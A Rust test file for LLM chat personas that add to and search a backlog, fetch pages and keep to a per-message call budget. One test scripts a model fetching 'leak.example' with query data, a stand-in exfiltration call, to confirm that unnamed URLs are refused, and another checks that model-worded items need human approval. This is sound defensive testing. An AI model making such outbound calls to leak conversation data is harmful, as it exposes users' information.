//! The tool calls of personas in a conversation, and the cost limit of one message.

use std::sync::Arc;
use std::time::Duration;

use kernel::llm::settings::ProviderKind;
use kernel::tools::settings::ListedHost;
use serde_json::{Value, json};
use tokio::sync::Notify;

use crate::support::command::{press, press_as};
use crate::support::database::count;
use crate::support::model::{Asked, Script};
use crate::support::team::{Backing, Shown, TestTeam, Wanted, eventually, on_one_store};

on_one_store!(
    without_a_model_a_plain_sentence_adds_to_the_backlog,
    what_somebody_asks_for_in_their_own_words_is_added,
    the_persons_words_in_another_order_are_their_own,
    what_the_model_words_itself_waits_for_the_person,
    a_question_to_a_person_is_asked_as_one,
    a_named_page_is_read_and_linked_and_a_line_says_so_meanwhile,
    a_page_that_nobody_named_is_not_read,
    one_message_pays_for_twelve_calls_however_often_a_persona_asks,
    a_persona_told_that_it_is_its_last_reply_answers,
    work_items_are_looked_up_where_they_may_be_told,
);

/// A team with Ann, Bob and no operators.
pub(super) fn wanted(backing: Backing) -> Wanted {
    Wanted::on(backing)
        .sandbox(|options| options.people = vec!["Ann".to_owned(), "Bob".to_owned()])
        .configure(|config| config.chat.operators = vec!["somebody-else".into()])
}

/// Whether a request is a persona's turn, and not one of the planner or of a check.
pub(super) fn is_talk(asked: &Asked) -> bool {
    asked.schema.is_none() && asked.system.contains("one persona of")
}

/// Answers the check that nothing is claimed, and refuses all other requests with a schema.
pub(super) fn no_claims(asked: &Asked) -> Script {
    let is_check = asked.schema.as_ref().is_some_and(|schema| schema.to_string().contains("acts"));
    if is_check { Script::Json(json!({"acts": []})) } else { Script::status(400) }
}

pub(super) fn certificate(what: &str) -> Script {
    Script::call(
        "backlog_add",
        json!({"what": what, "how": "By the form of the CA.", "why": "It ends.", "owner": "Kelly", "urgency": "this_week"}),
    )
}

async fn items(team: &TestTeam, holds: &str) -> i64 {
    count(team, &format!("SELECT COUNT(*) FROM work_items WHERE {holds}")).await
}

async fn first_answer(team: &TestTeam, text: &str) -> Shown {
    team.say("general", text).await;
    // Skips a question of the planner about a new item.
    let answers = async || team.answers("general").await.into_iter().filter(|answer| !answer.text.starts_with('❔')).collect::<Vec<_>>();
    eventually("it is answered", || async { !answers().await.is_empty() }).await;
    answers().await.remove(0)
}

async fn a_question_to_a_person_is_asked_as_one(backing: Backing) {
    let team = wanted(backing).model(ProviderKind::OpenAi).start().await;
    let add = json!({
        "what": "whether the supplier delivers on Saturdays", "how": "Ask Bob.", "why": "Ann wants to know.", "owner": "Bob", "urgency": "now",
        "question": "Does the supplier deliver on Saturdays?",
    });
    team.model.on(move |asked| match (is_talk(asked), asked.tool_results()) {
        (false, _) => no_claims(asked),
        (true, 0) => Script::call("backlog_add", add.clone()),
        (true, _) => Script::say("Bob is asked."),
    });
    team.say("general", "kelly, find out from Bob whether the supplier delivers on Saturdays").await;
    let asked = async || team.answers("general").await.into_iter().find(|answer| answer.text.starts_with("❓ Question for"));
    eventually("Bob is asked", || async { asked().await.is_some() }).await;
    let text = asked().await.unwrap().text;
    assert!(text.contains("\nDoes the supplier deliver on Saturdays?\n") && text.contains("Reply to this message"), "{text}");
}

async fn without_a_model_a_plain_sentence_adds_to_the_backlog(backing: Backing) {
    let team = wanted(backing).start().await;
    let answer = first_answer(&team, "kelly, add to the backlog: renew the certificate by tomorrow at 15:00").await;
    assert_eq!(answer.author, "Kelly");
    assert!(answer.text.starts_with("Added to the backlog: renew the certificate by tomorrow at 15:00 (`#"), "{}", answer.text);
    assert!(answer.text.contains(", due ") && answer.text.contains("15:00"), "{}", answer.text);
    assert_eq!(items(&team, "what LIKE 'renew the certificate%' AND origin LIKE '%\"message\":\"discord:%'").await, 1);
    let before = team.answers("general").await.len();
    team.say("general", "vince, füge \"Ann anrufen\" zum Backlog hinzu").await;
    eventually("in German too", || async { team.answers("general").await.iter().any(|answer| answer.author == "Vince") }).await;
    assert_eq!(items(&team, "what = 'Ann anrufen'").await, 1);
    // A question about the backlog is answered, and adds nothing.
    team.say("general", "kelly, what did we add to the backlog?").await;
    eventually("it is answered", || async { team.answers("general").await.len() >= before + 2 }).await;
    team.say("general", "Bob, add it to the backlog").await;
    team.say("general", "kelly, add to the backlog:").await;
    eventually("it asks back", || async {
        team.answers("general").await.iter().any(|answer| answer.text.starts_with("What should I add?"))
    })
    .await;
    assert_eq!(items(&team, "1 = 1").await, 2);
}

async fn what_somebody_asks_for_in_their_own_words_is_added(backing: Backing) {
    let team = wanted(backing).model(ProviderKind::OpenAi).start().await;
    team.model.on(|asked| match (is_talk(asked), asked.tool_results()) {
        (false, _) => no_claims(asked),
        (true, 0) => certificate("Renew the certificate"),
        (true, _) => Script::say("It is on the list."),
    });
    let answer = first_answer(&team, "kelly, we have to renew the certificate, keep an eye on it for us").await;
    let lines: Vec<&str> = answer.text.lines().collect();
    assert_eq!(lines[0], "It is on the list.");
    assert!(lines[1].starts_with("-# Added `#") && lines[1].ends_with("` to the backlog"), "{}", answer.text);
    // `how` and `why` are left out: the person did not say them, so they may come from something that the persona has read.
    assert_eq!(items(&team, "what = 'Renew the certificate' AND how = '' AND why = ''").await, 1);
}

async fn the_persons_words_in_another_order_are_their_own(backing: Backing) {
    let team = wanted(backing).model(ProviderKind::OpenAi).start().await;
    team.model.on(|asked| match (is_talk(asked), asked.tool_results()) {
        (false, _) => no_claims(asked),
        (true, 0) => certificate("Renew the certificate"),
        (true, _) => Script::say("It is on the list."),
    });
    let answer = first_answer(&team, "kelly, the certificate has to be renewed: put that on the list").await;
    assert!(answer.text.starts_with("It is on the list.\n-# Added `#"), "{}", answer.text);
    assert_eq!(items(&team, "what = 'Renew the certificate'").await, 1);
}

/// Ann asks for something, and the model words it differently.
async fn proposed(team: &TestTeam) -> Shown {
    team.model.on(|asked| match (is_talk(asked), asked.tool_results()) {
        (false, _) => no_claims(asked),
        (true, 0) => certificate("Renew the TLS certificate of example.org"),
        (true, _) => Script::say(format!("told: {}", asked.last().contains("asked by a button"))),
    });
    team.say("general", "kelly, the certificate ends soon, take care of it").await;
    eventually("the person is asked", || async { team.answers("general").await.len() == 2 }).await;
    let answers = team.answers("general").await;
    assert_eq!(answers[0].text, "told: true");
    answers[1].clone()
}

async fn what_the_model_words_itself_waits_for_the_person(backing: Backing) {
    let team = wanted(backing).model(ProviderKind::OpenAi).start().await;
    let question = proposed(&team).await;
    assert!(
        question.text.starts_with(
            "May I add this to the backlog?\n**Renew the TLS certificate of example.org**\nHow: By the form of the CA.\nWhy: It ends.\nFor: Kelly, \
             this week\n"
        ),
        "{}",
        question.text
    );
    // She has read the team's own feeds only.
    assert!(
        question.text.ends_with("-# I ask first, because I have read text from outside for this, and this is my wording."),
        "{}",
        question.text
    );
    let yes = |button: &Value| button["label"] == "Yes, do it";
    press_as(&team, 1, "general", &question, yes).await;
    assert_eq!(items(&team, "1 = 1").await, 0, "Bob did not ask for it");
    press(&team, "general", &question, yes).await;
    let told = || async { team.answers("general").await.into_iter().find(|answer| answer.text.starts_with("Added to the backlog as #")) };
    eventually("it is added", || async { told().await.is_some() }).await;
    team.settle().await;
    let buttons =
        team.answers("general").await.into_iter().find(|answer| answer.raw["id"] == question.raw["id"]).expect("it").raw["components"]
            .clone();
    assert!(buttons.as_array().is_none_or(Vec::is_empty), "the question is decided: {buttons}");
    assert_eq!(items(&team, "what = 'Renew the TLS certificate of example.org'").await, 1);
    assert_eq!(told().await.expect("an answer").author, "Kelly");
    assert_eq!(team.answers("general").await.iter().filter(|answer| answer.text.starts_with("Added")).count(), 1);
}

/// Serves a page that is sent only once `may_answer` is notified.
async fn serve_page(may_answer: Arc<Notify>) -> String {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port");
    let address = listener.local_addr().expect("an address");
    let page = async move || {
        may_answer.notified().await;
        axum::response::Html("<html><head><title>Harbour</title></head><body><p>The harbour silts up from the north.</p></body></html>")
    };
    let app = axum::Router::new().route("/harbour/plan", axum::routing::get(page));
    tokio::spawn(async move { axum::serve(listener, app).await });
    address.to_string()
}

async fn a_named_page_is_read_and_linked_and_a_line_says_so_meanwhile(backing: Backing) {
    let may_answer = Arc::new(Notify::new());
    let host = serve_page(may_answer.clone()).await;
    let listed = ListedHost::parse(&host).expect("a host");
    let team = wanted(backing)
        .model(ProviderKind::OpenAi)
        .configure(move |config| {
            config.tools.hosts = vec![listed.clone()];
            config.chat.still_thinking_after = Duration::from_secs(1);
        })
        .start()
        .await;
    let url = format!("http://{host}/harbour/plan");
    let page = url.clone();
    team.model.on(move |asked| match asked.tool_results() {
        0 => Script::call("fetch_page", json!({"url": page})),
        _ => Script::say(format!("It silts up: {}", asked.prompt().contains("silts up from the north"))),
    });
    team.say("general", &format!("kelly, summarise {url}")).await;
    // On a busy machine the line may first say only that she is working on it.
    let is_told = async || team.answers("general").await.first().is_some_and(|line| line.text == "Reading 127.0.0.1 …");
    eventually("a line says what is read", is_told).await;
    may_answer.notify_one();
    let answers = team.wait_for_answers("general", 2).await;
    assert_eq!(answers[1].text, format!("It silts up: true\n-# Read [127.0.0.1/harbour/plan](<{url}>)"));
}

async fn a_page_that_nobody_named_is_not_read(backing: Backing) {
    let team = wanted(backing).model(ProviderKind::OpenAi).start().await;
    team.model.on(|asked| match asked.tool_results() {
        0 => Script::call("fetch_page", json!({"url": "https://leak.example/?q=what-i-know"})),
        _ => Script::say(format!("refused: {}", asked.last().contains("where the person gives the address"))),
    });
    let answer = first_answer(&team, "kelly, what does their page say?").await;
    assert_eq!(answer.text, "refused: true");
    assert_eq!(team.answers("general").await.len(), 1, "nobody is asked to allow it");
}

/// Each persona asks the other one, and none answers.
pub(super) fn always_ask(asked: &Asked) -> Script {
    let other = if asked.system.contains("You are Vince") { "Solus" } else { "Vince" };
    Script::call("ask_agent", json!({"persona": other, "question": format!("and you, {}?", asked.number)}))
}

async fn one_message_pays_for_twelve_calls_however_often_a_persona_asks(backing: Backing) {
    let team = wanted(backing).model(ProviderKind::OpenAi).start().await;
    team.model.on(always_ask);
    let answer = first_answer(&team, "vince, what now?").await;
    team.settle().await;
    assert_eq!(
        answer.text,
        "No answer this time: it took more than the 12 model calls that one message may use. Please ask for less at once."
    );
    assert!((10..=12).contains(&team.model.count()), "{} model calls", team.model.count());
    // The next message has a budget of its own.
    team.model.on(|_| Script::say("here"));
    team.say("general", "vince, are you there?").await;
    eventually("it is answered", || async { team.answers("general").await.iter().any(|answer| answer.text == "here") }).await;
}

async fn a_persona_told_that_it_is_its_last_reply_answers(backing: Backing) {
    let team = wanted(backing).model(ProviderKind::Anthropic).configure(|config| config.guard.model_calls = 4).start().await;
    team.model.on(|asked| {
        if asked.prompt().contains("This is your last reply") { Script::say("As far as I know: three.") } else { always_ask(asked) }
    });
    let answer = first_answer(&team, "vince, how many ships?").await;
    assert_eq!(answer.text, "As far as I know: three.");
    assert!(team.model.count() <= 4, "{}", team.model.count());
}

async fn work_items_are_looked_up_where_they_may_be_told(backing: Backing) {
    let team = wanted(backing).model(ProviderKind::OpenAi).start().await;
    team.model.on(|asked| match (is_talk(asked), asked.tool_results()) {
        (false, _) => no_claims(asked),
        (true, 0) => Script::call("backlog_search", json!({"words": "certificates"})),
        (true, _) => Script::say(if asked.last().contains("renew the certificate (") { "found" } else { "nothing" }),
    });
    team.say("general", "add to the backlog: renew the certificate").await;
    eventually("it is added", || async { items(&team, "1 = 1").await == 1 }).await;
    let expect = async |text: &str| {
        team.say("general", "kelly, who looks after the certificate?").await;
        eventually("it is answered", || async { team.answers("general").await.iter().any(|answer| answer.text == text) }).await;
    };
    expect("found").await;
    crate::support::database::execute(&team, "UPDATE work_items SET private_to = 'discord:1'").await;
    expect("nothing").await;
}
